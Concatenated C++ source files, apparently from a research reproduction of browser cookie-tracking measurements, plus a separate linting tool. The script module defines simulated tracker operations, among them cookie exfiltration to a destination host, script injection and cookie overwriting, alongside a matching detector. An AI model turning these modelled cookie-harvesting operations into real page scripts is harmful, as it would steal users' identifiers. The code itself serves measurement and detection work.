      }
    }
    pos = semi + 1;
  }
  return out;
}

std::vector<std::string> extract_identifier_segments(std::string_view value,
                                                     std::size_t min_len) {
  std::vector<std::string> out;
  std::size_t start = 0;
  for (std::size_t i = 0; i <= value.size(); ++i) {
    const bool is_delim =
        i == value.size() ||
        !std::isalnum(static_cast<unsigned char>(value[i]));
    if (is_delim) {
      if (i - start >= min_len) {
        out.emplace_back(value.substr(start, i - start));
      }
      start = i + 1;
    }
  }
  return out;
}

std::string encode_identifier(std::string_view segment, Encoding encoding) {
  switch (encoding) {
    case Encoding::kRaw:
      return std::string(segment);
    case Encoding::kBase64:
      return crypto::base64_encode(segment);
    case Encoding::kBase64Url:
      return crypto::base64url_encode(segment);
    case Encoding::kMd5:
      return crypto::Md5::hex(segment);
    case Encoding::kSha1:
      return crypto::Sha1::hex(segment);
  }
  return std::string(segment);
}

void run_program(const std::vector<ScriptOp>& ops, const ExecContext& ctx,
                 PageServices& services) {
  for (const auto& op : ops) {
    run_op(op, ctx, services);
  }
}

}  // namespace cg::script
