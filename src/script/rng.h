// Deterministic RNG (SplitMix64) used everywhere randomness is needed.
//
// One seed drives the whole reproduction: corpus composition, cookie value
// generation, crawl link choices. Streams can be forked per site so results
// are independent of iteration order.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

namespace cg::script {

class Rng {
 public:
  explicit Rng(std::uint64_t seed) : state_(seed ^ kGolden) {}

  std::uint64_t next() {
    std::uint64_t z = (state_ += kGolden);
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    return z ^ (z >> 31);
  }

  /// Uniform in [0, bound); bound must be > 0.
  std::uint64_t below(std::uint64_t bound) { return next() % bound; }

  /// Uniform in [lo, hi] inclusive.
  std::uint64_t between(std::uint64_t lo, std::uint64_t hi) {
    return lo + below(hi - lo + 1);
  }

  /// True with probability `p` (0..1).
  bool chance(double p) {
    return static_cast<double>(next() >> 11) * 0x1.0p-53 < p;
  }

  double uniform() { return static_cast<double>(next() >> 11) * 0x1.0p-53; }

  /// N random decimal digits, no leading zero (tracker-id style).
  std::string digits(std::size_t n) {
    std::string out;
    out.reserve(n);
    out.push_back(static_cast<char>('1' + below(9)));
    while (out.size() < n) {
      out.push_back(static_cast<char>('0' + below(10)));
    }
    return out;
  }

  /// N random lower-case hex characters.
  std::string hex(std::size_t n) {
    static constexpr char kDigits[] = "0123456789abcdef";
    std::string out;
    out.reserve(n);
    for (std::size_t i = 0; i < n; ++i) {
      out.push_back(kDigits[below(16)]);
    }
    return out;
  }

  /// Forks an independent stream (e.g. one per site, keyed by rank).
  Rng fork(std::uint64_t key) {
    return Rng(next() ^ (key * 0x9E3779B97F4A7C15ULL) ^ kGolden2);
  }

  /// The stream the k-th sequential `fork(key)` call on `Rng(seed)` would
  /// produce (k = 0 for the first fork), computed in O(1) from SplitMix64's
  /// closed-form state: after k calls the state is (seed ^ γ) + k·γ. This is
  /// what lets a streaming corpus reproduce `master.fork(rank)` for any rank
  /// without iterating the master stream — per-site generation stays a pure
  /// function of (seed, rank) at any access order.
  static Rng fork_at(std::uint64_t seed, std::uint64_t k, std::uint64_t key) {
    std::uint64_t z = (seed ^ kGolden) + (k + 1) * kGolden;
    z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
    z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
    z ^= z >> 31;
    return Rng(z ^ (key * kGolden) ^ kGolden2);
  }

  template <typename T>
  const T& pick(const std::vector<T>& items) {
    return items[below(items.size())];
  }

 private:
  static constexpr std::uint64_t kGolden = 0x9E3779B97F4A7C15ULL;
  static constexpr std::uint64_t kGolden2 = 0xD1B54A32D192ED03ULL;
  std::uint64_t state_;
};

}  // namespace cg::script
