#include "script/ops.h"

namespace cg::script {

const char* to_string(OpKind kind) {
  switch (kind) {
    case OpKind::kSetCookie:
      return "set_cookie";
    case OpKind::kStoreSetCookie:
      return "store_set_cookie";
    case OpKind::kReadCookies:
      return "read_cookies";
    case OpKind::kStoreGetAll:
      return "store_get_all";
    case OpKind::kStoreGet:
      return "store_get";
    case OpKind::kOverwriteCookie:
      return "overwrite_cookie";
    case OpKind::kDeleteCookie:
      return "delete_cookie";
    case OpKind::kStoreDeleteCookie:
      return "store_delete_cookie";
    case OpKind::kExfiltrate:
      return "exfiltrate";
    case OpKind::kSendBeacon:
      return "send_beacon";
    case OpKind::kInjectScript:
      return "inject_script";
    case OpKind::kModifyDom:
      return "modify_dom";
    case OpKind::kCreateDomElement:
      return "create_dom_element";
    case OpKind::kAsync:
      return "async";
  }
  return "unknown";
}

const char* to_string(Encoding encoding) {
  switch (encoding) {
    case Encoding::kRaw:
      return "raw";
    case Encoding::kBase64:
      return "base64";
    case Encoding::kBase64Url:
      return "base64url";
    case Encoding::kMd5:
      return "md5";
    case Encoding::kSha1:
      return "sha1";
  }
  return "raw";
}

ScriptOp set_cookie(std::string name, std::string value_template,
                    std::string attributes, bool only_if_missing) {
  ScriptOp op;
  op.kind = OpKind::kSetCookie;
  op.cookie_name = std::move(name);
  op.value_template = std::move(value_template);
  op.attributes = std::move(attributes);
  op.only_if_missing = only_if_missing;
  return op;
}

ScriptOp store_set_cookie(std::string name, std::string value_template) {
  ScriptOp op;
  op.kind = OpKind::kStoreSetCookie;
  op.cookie_name = std::move(name);
  op.value_template = std::move(value_template);
  return op;
}

ScriptOp read_cookies() {
  ScriptOp op;
  op.kind = OpKind::kReadCookies;
  return op;
}

ScriptOp store_get_all() {
  ScriptOp op;
  op.kind = OpKind::kStoreGetAll;
  return op;
}

ScriptOp store_get(std::string name) {
  ScriptOp op;
  op.kind = OpKind::kStoreGet;
  op.cookie_name = std::move(name);
  return op;
}

ScriptOp overwrite(std::vector<std::string> targets,
                   std::string value_template, std::string attributes) {
  ScriptOp op;
  op.kind = OpKind::kOverwriteCookie;
  op.target_cookie_names = std::move(targets);
  op.value_template = std::move(value_template);
  op.attributes = std::move(attributes);
  return op;
}

ScriptOp delete_cookies(std::vector<std::string> targets) {
  ScriptOp op;
  op.kind = OpKind::kDeleteCookie;
  op.target_cookie_names = std::move(targets);
  return op;
}

ScriptOp store_delete(std::string name) {
  ScriptOp op;
  op.kind = OpKind::kStoreDeleteCookie;
  op.cookie_name = std::move(name);
  return op;
}

ScriptOp exfiltrate(std::vector<std::string> targets, std::string dest_host,
                    Encoding encoding, std::string dest_path) {
  ScriptOp op;
  op.kind = OpKind::kExfiltrate;
  op.target_cookie_names = std::move(targets);
  op.dest_host = std::move(dest_host);
  op.dest_path = std::move(dest_path);
  op.encoding = encoding;
  return op;
}

ScriptOp exfiltrate_jar(std::string dest_host, Encoding encoding,
                        std::string dest_path) {
  ScriptOp op;
  op.kind = OpKind::kExfiltrate;
  op.exfiltrate_whole_jar = true;
  op.dest_host = std::move(dest_host);
  op.dest_path = std::move(dest_path);
  op.encoding = encoding;
  return op;
}

ScriptOp beacon(std::string dest_host, std::string dest_path) {
  ScriptOp op;
  op.kind = OpKind::kSendBeacon;
  op.dest_host = std::move(dest_host);
  op.dest_path = std::move(dest_path);
  return op;
}

ScriptOp inject(std::string script_id) {
  ScriptOp op;
  op.kind = OpKind::kInjectScript;
  op.inject_script_id = std::move(script_id);
  return op;
}

ScriptOp modify_dom(std::string tag) {
  ScriptOp op;
  op.kind = OpKind::kModifyDom;
  op.dom_tag = std::move(tag);
  return op;
}

ScriptOp create_dom(std::string tag) {
  ScriptOp op;
  op.kind = OpKind::kCreateDomElement;
  op.dom_tag = std::move(tag);
  return op;
}

ScriptOp run_async(TimeMillis delay_ms, std::vector<ScriptOp> nested,
                   std::string helper_script_url) {
  ScriptOp op;
  op.kind = OpKind::kAsync;
  op.delay_ms = delay_ms;
  op.nested = std::move(nested);
  op.helper_script_url = std::move(helper_script_url);
  return op;
}

}  // namespace cg::script
