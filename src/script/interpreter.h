// Executes a ScriptOp program against a page.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "script/exec_context.h"
#include "script/ops.h"
#include "script/page_services.h"

namespace cg::script {

/// Expands value-template placeholders: {ts} seconds, {ts_ms} millis,
/// {rand:N} N decimal digits, {hex:N} N hex chars.
std::string expand_template(std::string_view tpl, Rng& rng, TimeMillis now);

/// Splits a document.cookie string ("a=1; b=2") into pairs.
std::vector<StoreCookie> parse_cookie_string(std::string_view cookie_string);

/// Extracts candidate identifier segments from a cookie value: split on
/// non-alphanumeric delimiters, keep segments of at least `min_len` chars.
/// This is both what trackers harvest and what the detector (analysis
/// module) searches for — the paper uses the same rule on both sides (§4.3).
std::vector<std::string> extract_identifier_segments(std::string_view value,
                                                     std::size_t min_len = 8);

/// Applies an Encoding to an identifier segment.
std::string encode_identifier(std::string_view segment, Encoding encoding);

/// Runs `ops` as `ctx` against `services`. The caller (browser script host)
/// is responsible for stack-frame management around this call.
void run_program(const std::vector<ScriptOp>& ops, const ExecContext& ctx,
                 PageServices& services);

}  // namespace cg::script
