#include "lint/lexer.h"

#include <cctype>

namespace cg::lint {
namespace {

bool is_ident_start(char c) {
  return std::isalpha(static_cast<unsigned char>(c)) != 0 || c == '_';
}

bool is_ident_char(char c) {
  return std::isalnum(static_cast<unsigned char>(c)) != 0 || c == '_';
}

/// Valid string-literal prefixes; a trailing R makes the literal raw.
bool is_string_prefix(std::string_view ident) {
  return ident == "R" || ident == "L" || ident == "u" || ident == "U" ||
         ident == "u8" || ident == "LR" || ident == "uR" || ident == "UR" ||
         ident == "u8R";
}

class Scanner {
 public:
  explicit Scanner(std::string_view source) : src_(source) {}

  std::vector<Token> run() {
    while (pos_ < src_.size()) {
      const char c = src_[pos_];
      if (c == '\n') {
        ++line_;
        ++pos_;
        at_line_start_ = true;
        continue;
      }
      if (c == ' ' || c == '\t' || c == '\r' || c == '\v' || c == '\f') {
        ++pos_;
        continue;
      }
      if (c == '/' && peek(1) == '/') {
        line_comment();
        continue;
      }
      if (c == '/' && peek(1) == '*') {
        block_comment();
        continue;
      }
      if (c == '#' && at_line_start_) {
        directive();
        continue;
      }
      at_line_start_ = false;
      if (c == '"') {
        string_literal(pos_, /*raw=*/false);
        continue;
      }
      if (c == '\'') {
        char_literal();
        continue;
      }
      if (std::isdigit(static_cast<unsigned char>(c)) != 0) {
        number();
        continue;
      }
      if (is_ident_start(c)) {
        identifier();
        continue;
      }
      punct();
    }
    return std::move(tokens_);
  }

 private:
  char peek(std::size_t ahead) const {
    return pos_ + ahead < src_.size() ? src_[pos_ + ahead] : '\0';
  }

  void emit(TokenKind kind, std::size_t begin, int line) {
    tokens_.push_back({kind, src_.substr(begin, pos_ - begin), line});
  }

  void count_lines(std::size_t begin) {
    for (std::size_t i = begin; i < pos_; ++i) {
      if (src_[i] == '\n') ++line_;
    }
  }

  // `// ...` to end of line; a trailing backslash continues the comment onto
  // the next line, exactly as the preprocessor sees it.
  void line_comment() {
    const std::size_t begin = pos_;
    const int line = line_;
    pos_ += 2;
    while (pos_ < src_.size()) {
      if (src_[pos_] == '\n') {
        std::size_t back = pos_;
        while (back > begin && src_[back - 1] == '\r') --back;
        if (back > begin && src_[back - 1] == '\\') {
          ++line_;
          ++pos_;
          continue;
        }
        break;
      }
      ++pos_;
    }
    emit(TokenKind::kComment, begin, line);
    at_line_start_ = true;  // the upcoming '\n' re-arms directives anyway
  }

  void block_comment() {
    const std::size_t begin = pos_;
    const int line = line_;
    pos_ += 2;
    while (pos_ < src_.size() &&
           !(src_[pos_] == '*' && peek(1) == '/')) {
      if (src_[pos_] == '\n') ++line_;
      ++pos_;
    }
    if (pos_ < src_.size()) pos_ += 2;
    emit(TokenKind::kComment, begin, line);
  }

  // A preprocessor directive runs to end of line, honoring backslash
  // continuations. A trailing // or /* comment is NOT part of the directive
  // token — it is lexed separately so suppression annotations work on
  // #include lines.
  void directive() {
    const std::size_t begin = pos_;
    const int line = line_;
    bool in_string = false;
    char quote = '\0';
    while (pos_ < src_.size()) {
      const char c = src_[pos_];
      if (c == '\n') {
        std::size_t back = pos_;
        while (back > begin && src_[back - 1] == '\r') --back;
        if (back > begin && src_[back - 1] == '\\') {
          ++line_;
          ++pos_;
          continue;
        }
        break;
      }
      if (in_string) {
        if (c == '\\' && quote == '"') {
          pos_ += 2;
          continue;
        }
        if (c == quote) in_string = false;
        ++pos_;
        continue;
      }
      if (c == '"' || (c == '<' && directive_is_include(begin))) {
        in_string = true;
        quote = c == '<' ? '>' : '"';
        ++pos_;
        continue;
      }
      if (c == '/' && (peek(1) == '/' || peek(1) == '*')) break;
      ++pos_;
    }
    emit(TokenKind::kDirective, begin, line);
  }

  bool directive_is_include(std::size_t begin) const {
    const auto text = src_.substr(begin, pos_ - begin);
    return text.find("include") != std::string_view::npos;
  }

  void string_literal(std::size_t begin, bool raw) {
    const int line = line_;
    if (raw) {
      // R"delim( ... )delim"
      ++pos_;  // opening quote
      const std::size_t delim_begin = pos_;
      while (pos_ < src_.size() && src_[pos_] != '(') ++pos_;
      const std::string_view delim = src_.substr(delim_begin, pos_ - delim_begin);
      std::string closer = ")";
      closer += delim;
      closer += '"';
      const std::size_t close = src_.find(closer, pos_);
      pos_ = close == std::string_view::npos ? src_.size()
                                            : close + closer.size();
      count_lines(begin);
      emit(TokenKind::kString, begin, line);
      return;
    }
    ++pos_;  // opening quote
    while (pos_ < src_.size()) {
      const char c = src_[pos_];
      if (c == '\\') {
        pos_ += 2;
        continue;
      }
      if (c == '"' || c == '\n') break;  // robust to unterminated literals
      ++pos_;
    }
    if (pos_ < src_.size() && src_[pos_] == '"') ++pos_;
    emit(TokenKind::kString, begin, line);
  }

  void char_literal() {
    const std::size_t begin = pos_;
    const int line = line_;
    ++pos_;
    while (pos_ < src_.size()) {
      const char c = src_[pos_];
      if (c == '\\') {
        pos_ += 2;
        continue;
      }
      if (c == '\'' || c == '\n') break;
      ++pos_;
    }
    if (pos_ < src_.size() && src_[pos_] == '\'') ++pos_;
    emit(TokenKind::kString, begin, line);
  }

  void number() {
    const std::size_t begin = pos_;
    const int line = line_;
    while (pos_ < src_.size()) {
      const char c = src_[pos_];
      if (std::isalnum(static_cast<unsigned char>(c)) != 0 || c == '.' ||
          c == '\'') {
        ++pos_;
        continue;
      }
      // Exponent signs: 1e+5, 0x1p-3
      if ((c == '+' || c == '-') && pos_ > begin) {
        const char prev = src_[pos_ - 1];
        if (prev == 'e' || prev == 'E' || prev == 'p' || prev == 'P') {
          ++pos_;
          continue;
        }
      }
      break;
    }
    emit(TokenKind::kNumber, begin, line);
  }

  void identifier() {
    const std::size_t begin = pos_;
    const int line = line_;
    while (pos_ < src_.size() && is_ident_char(src_[pos_])) ++pos_;
    const std::string_view ident = src_.substr(begin, pos_ - begin);
    // String-literal prefix? u8"x", R"(x)", LR"(x)" ...
    if (pos_ < src_.size() && src_[pos_] == '"' && is_string_prefix(ident)) {
      string_literal(begin, /*raw=*/ident.back() == 'R');
      return;
    }
    if (pos_ < src_.size() && src_[pos_] == '\'' &&
        (ident == "L" || ident == "u" || ident == "U" || ident == "u8")) {
      char_literal();
      // Re-label to include the prefix.
      tokens_.back().text = src_.substr(begin, pos_ - begin);
      return;
    }
    emit(TokenKind::kIdentifier, begin, line);
  }

  void punct() {
    const std::size_t begin = pos_;
    const int line = line_;
    const char c = src_[pos_];
    ++pos_;
    // Multi-char tokens the rules care about; everything else is one char.
    if (pos_ < src_.size()) {
      const char n = src_[pos_];
      if ((c == ':' && n == ':') || (c == '-' && n == '>') ||
          (c == '#' && n == '#')) {
        ++pos_;
      }
    }
    emit(TokenKind::kPunct, begin, line);
  }

  std::string_view src_;
  std::size_t pos_ = 0;
  int line_ = 1;
  bool at_line_start_ = true;
  std::vector<Token> tokens_;
};

}  // namespace

std::vector<Token> lex(std::string_view source) {
  return Scanner(source).run();
}

std::optional<IncludeTarget> parse_include(const Token& directive) {
  if (directive.kind != TokenKind::kDirective) return std::nullopt;
  std::string_view text = directive.text;
  // "#" [ws] "include" [ws] <"path"|<path>>
  std::size_t i = 1;  // skip '#'
  while (i < text.size() && (text[i] == ' ' || text[i] == '\t')) ++i;
  static constexpr std::string_view kInclude = "include";
  if (text.substr(i, kInclude.size()) != kInclude) return std::nullopt;
  i += kInclude.size();
  while (i < text.size() && (text[i] == ' ' || text[i] == '\t')) ++i;
  if (i >= text.size()) return std::nullopt;
  const char open = text[i];
  if (open != '"' && open != '<') return std::nullopt;
  const char close = open == '<' ? '>' : '"';
  const std::size_t end = text.find(close, i + 1);
  if (end == std::string_view::npos) return std::nullopt;
  return IncludeTarget{std::string(text.substr(i + 1, end - i - 1)),
                       open == '"'};
}

}  // namespace cg::lint
