// The cglint driver: walks source trees, runs the rules, matches
// suppressions, and aggregates a report with a suppression census.
//
// Everything is deterministic: files are visited in sorted path order and
// violations are reported in (file, line, rule) order, so two runs over the
// same tree emit byte-identical output — the tool holds itself to the
// invariants it enforces.
#pragma once

#include <map>
#include <string>
#include <vector>

#include "lint/config.h"
#include "lint/rules.h"

namespace cg::lint {

struct SuppressedViolation {
  Violation violation;
  std::string reason;
};

struct LintReport {
  std::vector<Violation> violations;            // unsuppressed, incl. S1/S2
  std::vector<SuppressedViolation> suppressed;  // for the census
  std::map<std::string, int> suppression_census;  // rule → suppressed count
  std::vector<Violation> unused_suppressions;   // informational only
  int files_scanned = 0;
  std::size_t bytes_scanned = 0;

  bool clean() const { return violations.empty(); }
};

/// Lint one in-memory source (fixtures, tests). `path` is repo-relative and
/// decides module membership.
LintReport lint_source(const Config& config, const std::string& path,
                       std::string_view source);

/// Lint every .h/.hpp/.cc/.cpp under the given roots (files or directories,
/// repo-relative). Hidden and build*/ directories are skipped.
LintReport lint_paths(const Config& config,
                      const std::vector<std::string>& roots);

/// Render `path:line: [RULE] message` lines, the census, and a summary.
std::string format_report(const LintReport& report, bool census);

}  // namespace cg::lint
