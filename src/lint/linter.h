// The cglint driver: walks source trees, builds the cross-file symbol
// index (pass 1), runs the rules (pass 2), matches suppressions, and
// aggregates a report with a suppression census.
//
// Everything is deterministic: files are visited in sorted path order and
// violations are reported in (file, line, rule) order, so two runs over the
// same tree emit byte-identical output — the tool holds itself to the
// invariants it enforces.
#pragma once

#include <cstddef>
#include <map>
#include <optional>
#include <set>
#include <string>
#include <string_view>
#include <vector>

#include "lint/config.h"
#include "lint/rules.h"

namespace cg::lint {

struct SuppressedViolation {
  Violation violation;
  std::string reason;
};

struct LintReport {
  std::vector<Violation> violations;            // unsuppressed, incl. S1/S2
  std::vector<SuppressedViolation> suppressed;  // for the census
  std::map<std::string, int> suppression_census;  // rule → suppressed count
  std::vector<Violation> unused_suppressions;   // informational only
  // Census: lint/metrics.txt entries no checked call site referenced.
  // Populated only when a metric registry is attached to the config.
  std::vector<std::string> unused_metric_entries;
  int baselined = 0;  // violations swallowed by apply_baseline()
  int files_scanned = 0;
  std::size_t bytes_scanned = 0;

  bool clean() const { return violations.empty(); }
};

/// An in-memory file for lint_sources(); `path` is repo-relative and
/// decides module membership.
struct SourceFile {
  std::string path;
  std::string source;
};

/// Lint a set of in-memory sources as one tree: the cross-file index is
/// built over all of them before any rule runs (fixtures, tests).
LintReport lint_sources(const Config& config,
                        std::vector<SourceFile> sources);

/// Lint one in-memory source (single-file fixtures). The index sees only
/// this file.
LintReport lint_source(const Config& config, const std::string& path,
                       std::string_view source);

/// Lint every .h/.hpp/.cc/.cpp under the given roots (files or directories,
/// repo-relative). Hidden and build*/ directories are skipped.
LintReport lint_paths(const Config& config,
                      const std::vector<std::string>& roots);

// ---- baseline mode -------------------------------------------------------
//
// A baseline is a checked-in snapshot of known findings so CI can gate on
// *new* ones while a cleanup is in flight. Entries are line-number-free —
// `file<TAB>rule<TAB>message` — so unrelated edits that shift code down a
// file do not invalidate the baseline. Matching is multiset semantics: each
// baseline entry excuses at most one finding.

struct Baseline {
  static Baseline parse(std::string_view text);
  static std::optional<Baseline> load(const std::string& file,
                                      std::string* error);

  std::multiset<std::string> entries;
};

/// The baseline key for one violation: `file<TAB>rule<TAB>message`.
std::string baseline_key(const Violation& violation);

/// The report's current violations as a baseline file (sorted, one per
/// line), suitable for `cglint --write-baseline`.
std::string write_baseline_text(const LintReport& report);

/// Remove violations covered by the baseline; returns how many were
/// removed (also recorded in report->baselined).
int apply_baseline(LintReport* report, const Baseline& baseline);

/// Render `path:line: [RULE] message` lines, the census, and a summary.
std::string format_report(const LintReport& report, bool census);

}  // namespace cg::lint
