// SARIF 2.1.0 serialization of a lint report, for CI annotation surfaces
// and artifact upload. One run, tool "cglint", every violation a result at
// level "error"; suppressed findings are deliberately absent (they are the
// census's business, not the gate's).
#pragma once

#include <string>

#include "lint/linter.h"

namespace cg::lint {

/// Serialize the report as a SARIF 2.1.0 log (schema-valid JSON text).
std::string to_sarif(const LintReport& report);

}  // namespace cg::lint
