#include "lint/index.h"

#include <cstddef>

namespace cg::lint {
namespace {

struct Scope {
  enum Kind { kNamespace, kClass, kBlock } kind;
  std::string name;  // class name for kClass, empty otherwise
};

}  // namespace

void index_file(const Config& config, const std::string& path,
                const std::vector<Token>& tokens, SymbolIndex* index) {
  std::vector<Token> code;
  code.reserve(tokens.size());
  for (const Token& token : tokens) {
    if (token.kind != TokenKind::kComment &&
        token.kind != TokenKind::kDirective) {
      code.push_back(token);
    }
  }

  const std::set<std::string>& mustcheck = config.mustcheck_types();

  std::vector<Scope> scopes;
  Scope pending{Scope::kBlock, ""};
  bool pending_set = false;

  // The innermost class whose member declarations we are reading, or null
  // inside any function/initializer body.
  auto current_class = [&]() -> const std::string* {
    for (auto it = scopes.rbegin(); it != scopes.rend(); ++it) {
      if (it->kind == Scope::kBlock) return nullptr;
      if (it->kind == Scope::kClass) return &it->name;
    }
    return nullptr;
  };

  for (std::size_t i = 0; i < code.size(); ++i) {
    const Token& token = code[i];
    const std::string_view t = token.text;

    // enum definitions are consumed inline: collect the enumerator list and
    // skip past the body so the scope machine never sees its braces.
    if (t == "enum") {
      std::size_t j = i + 1;
      while (j < code.size() &&
             (code[j].text == "class" || code[j].text == "struct")) {
        ++j;
      }
      if (j >= code.size() || code[j].kind != TokenKind::kIdentifier) {
        continue;
      }
      std::string name(code[j].text);
      ++j;
      while (j < code.size() && code[j].text != "{" && code[j].text != ";") {
        ++j;
      }
      if (j >= code.size() || code[j].text == ";") {
        i = j;  // forward declaration / opaque-enum declaration
        pending_set = false;
        continue;
      }
      std::vector<std::string> enumerators;
      int depth = 0;
      bool expect_name = false;
      for (; j < code.size(); ++j) {
        const std::string_view u = code[j].text;
        if (u == "{") {
          if (++depth == 1) expect_name = true;
          continue;
        }
        if (u == "}") {
          if (--depth == 0) break;
          continue;
        }
        if (depth != 1) continue;
        if (u == ",") {
          expect_name = true;
        } else if (expect_name && code[j].kind == TokenKind::kIdentifier) {
          enumerators.emplace_back(u);
          expect_name = false;
        }
      }
      if (!enumerators.empty()) {
        index->enums.emplace(std::move(name), std::move(enumerators));
      }
      i = j;
      pending_set = false;
      continue;
    }

    // Scope machine (the D4 shape, plus class names).
    if (t == "namespace") {
      pending = {Scope::kNamespace, ""};
      pending_set = true;
      continue;
    }
    if (t == "class" || t == "struct" || t == "union") {
      std::size_t j = i + 1;
      bool nodiscard = false;
      if (j + 1 < code.size() && code[j].text == "[" &&
          code[j + 1].text == "[") {
        int attr_depth = 2;
        j += 2;
        for (; j < code.size() && attr_depth > 0; ++j) {
          if (code[j].text == "nodiscard") nodiscard = true;
          if (code[j].text == "[") ++attr_depth;
          if (code[j].text == "]") --attr_depth;
        }
      }
      pending = {Scope::kClass, ""};
      pending_set = true;
      if (j < code.size() && code[j].kind == TokenKind::kIdentifier) {
        pending.name = std::string(code[j].text);
        if (mustcheck.count(pending.name) != 0) {
          // Only a definition (a `{` before the terminating `;`) records a
          // TypeDef; forward declarations carry no attribute to audit.
          bool is_definition = false;
          for (std::size_t k = j + 1; k < code.size(); ++k) {
            if (code[k].text == "{") {
              is_definition = true;
              break;
            }
            if (code[k].text == ";" || code[k].text == ")") break;
          }
          if (is_definition) {
            index->mustcheck_types.emplace(
                pending.name, TypeDef{path, token.line, nodiscard});
          }
        }
      }
      continue;
    }
    if (t == "{") {
      scopes.push_back(pending_set ? pending : Scope{Scope::kBlock, ""});
      pending_set = false;
      continue;
    }
    if (t == "}") {
      if (!scopes.empty()) scopes.pop_back();
      continue;
    }
    if (t == ";") {
      pending_set = false;
      continue;
    }
    if (t == ")") {
      // `)` before `{` is a function/control body, never a class.
      pending = {Scope::kBlock, ""};
      pending_set = true;
      continue;
    }

    if (token.kind != TokenKind::kIdentifier) continue;

    // Must-check callables: `T name (` / `T Class::name (`, with optional
    // pointer/reference declarators between.
    if (mustcheck.count(std::string(t)) != 0) {
      std::size_t j = i + 1;
      while (j < code.size() &&
             (code[j].text == "*" || code[j].text == "&" ||
              code[j].text == "&&")) {
        ++j;
      }
      if (j < code.size() && code[j].kind == TokenKind::kIdentifier) {
        const std::string name(code[j].text);
        if (j + 1 < code.size() && code[j + 1].text == "(") {
          const std::string* enclosing = current_class();
          if (enclosing != nullptr) {
            index->mustcheck_methods[*enclosing].insert(name);
          } else {
            index->mustcheck_functions.insert(name);
          }
        } else if (j + 3 < code.size() && code[j + 1].text == "::" &&
                   code[j + 2].kind == TokenKind::kIdentifier &&
                   code[j + 3].text == "(") {
          index->mustcheck_methods[name].insert(
              std::string(code[j + 2].text));
        }
      }
    }

    // Member-variable receivers: at class scope, `Type [*&>] name_` records
    // name_ → Type. Every candidate is stored; the rule only consults types
    // that actually own must-check methods, so noise is harmless.
    if (current_class() != nullptr) {
      std::size_t j = i + 1;
      while (j < code.size() &&
             (code[j].text == "*" || code[j].text == "&" ||
              code[j].text == "&&" || code[j].text == ">" ||
              code[j].text == "const")) {
        ++j;
      }
      if (j < code.size() && code[j].kind == TokenKind::kIdentifier &&
          code[j].text.size() > 1 && code[j].text.back() == '_') {
        const std::string member(code[j].text);
        const std::string type(t);
        auto [it, inserted] = index->member_receivers.emplace(member, type);
        if (!inserted && it->second != type) it->second.clear();
      }
    }
  }
}

}  // namespace cg::lint
