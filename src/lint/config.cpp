#include "lint/config.h"

#include <algorithm>
#include <fstream>
#include <functional>
#include <sstream>

namespace cg::lint {
namespace {

std::vector<std::string> split_words(std::string_view line) {
  std::vector<std::string> words;
  std::string current;
  for (const char c : line) {
    if (c == ' ' || c == '\t') {
      if (!current.empty()) words.push_back(std::move(current));
      current.clear();
    } else {
      current += c;
    }
  }
  if (!current.empty()) words.push_back(std::move(current));
  return words;
}

/// "src/obs/trace.cpp" → "obs"; "bench/bench_fig2.cpp" → "bench".
std::string default_module(std::string_view path) {
  const std::size_t first = path.find('/');
  if (first == std::string_view::npos) return std::string(path);
  std::string_view head = path.substr(0, first);
  if (head != "src") return std::string(head);
  const std::string_view rest = path.substr(first + 1);
  const std::size_t second = rest.find('/');
  return std::string(second == std::string_view::npos ? rest
                                                      : rest.substr(0, second));
}

}  // namespace

std::optional<NameRegistry> NameRegistry::parse(std::string_view text,
                                                std::string* error) {
  NameRegistry registry;
  std::istringstream in{std::string(text)};
  std::string raw;
  int line_no = 0;
  while (std::getline(in, raw)) {
    ++line_no;
    const std::size_t hash = raw.find('#');
    if (hash != std::string::npos) raw.resize(hash);
    const auto words = split_words(raw);
    if (words.empty()) continue;
    if (words.size() != 1) {
      if (error != nullptr) {
        *error = "line " + std::to_string(line_no) +
                 ": expected one name per line";
      }
      return std::nullopt;
    }
    const std::string& entry = words[0];
    if (entry == "*" || entry.find('*') < entry.size() - 1) {
      if (error != nullptr) {
        *error = "line " + std::to_string(line_no) +
                 ": '*' is only valid as a trailing wildcard";
      }
      return std::nullopt;
    }
    if (entry.back() == '*') {
      registry.wildcard_stems_.push_back(entry.substr(0, entry.size() - 1));
    } else {
      registry.exact_.insert(entry);
    }
    registry.entries_.push_back(entry);
  }
  std::sort(registry.entries_.begin(), registry.entries_.end());
  registry.entries_.erase(
      std::unique(registry.entries_.begin(), registry.entries_.end()),
      registry.entries_.end());
  std::sort(registry.wildcard_stems_.begin(), registry.wildcard_stems_.end());
  return registry;
}

std::optional<NameRegistry> NameRegistry::load(const std::string& file,
                                               std::string* error) {
  std::ifstream in(file);
  if (!in) {
    if (error != nullptr) *error = "cannot open registry file: " + file;
    return std::nullopt;
  }
  std::ostringstream buffer;
  buffer << in.rdbuf();
  return parse(buffer.str(), error);
}

bool NameRegistry::matches(std::string_view name,
                           std::string* matched_entry) const {
  const auto it = exact_.find(std::string(name));
  if (it != exact_.end()) {
    if (matched_entry != nullptr) *matched_entry = *it;
    return true;
  }
  for (const std::string& stem : wildcard_stems_) {
    if (name.substr(0, stem.size()) == stem) {
      if (matched_entry != nullptr) *matched_entry = stem + "*";
      return true;
    }
  }
  return false;
}

bool NameRegistry::matches_prefix(std::string_view prefix,
                                  std::string* matched_entry) const {
  for (const std::string& stem : wildcard_stems_) {
    if (prefix.substr(0, stem.size()) == stem) {
      if (matched_entry != nullptr) *matched_entry = stem + "*";
      return true;
    }
  }
  return false;
}

std::optional<Config> Config::parse(std::string_view text,
                                    std::string* error) {
  Config config;
  std::istringstream in{std::string(text)};
  std::string raw;
  int line_no = 0;
  auto fail = [&](const std::string& message) {
    if (error != nullptr) {
      *error = "line " + std::to_string(line_no) + ": " + message;
    }
    return std::nullopt;
  };
  while (std::getline(in, raw)) {
    ++line_no;
    const std::size_t hash = raw.find('#');
    if (hash != std::string::npos) raw.resize(hash);
    const auto words = split_words(raw);
    if (words.empty()) continue;
    const std::string& keyword = words[0];
    if (keyword == "path") {
      if (words.size() != 3) return fail("path expects: path <prefix> <module>");
      config.path_overrides_.emplace_back(words[1], words[2]);
    } else if (keyword == "deps") {
      if (words.size() < 2 || words[1].back() != ':') {
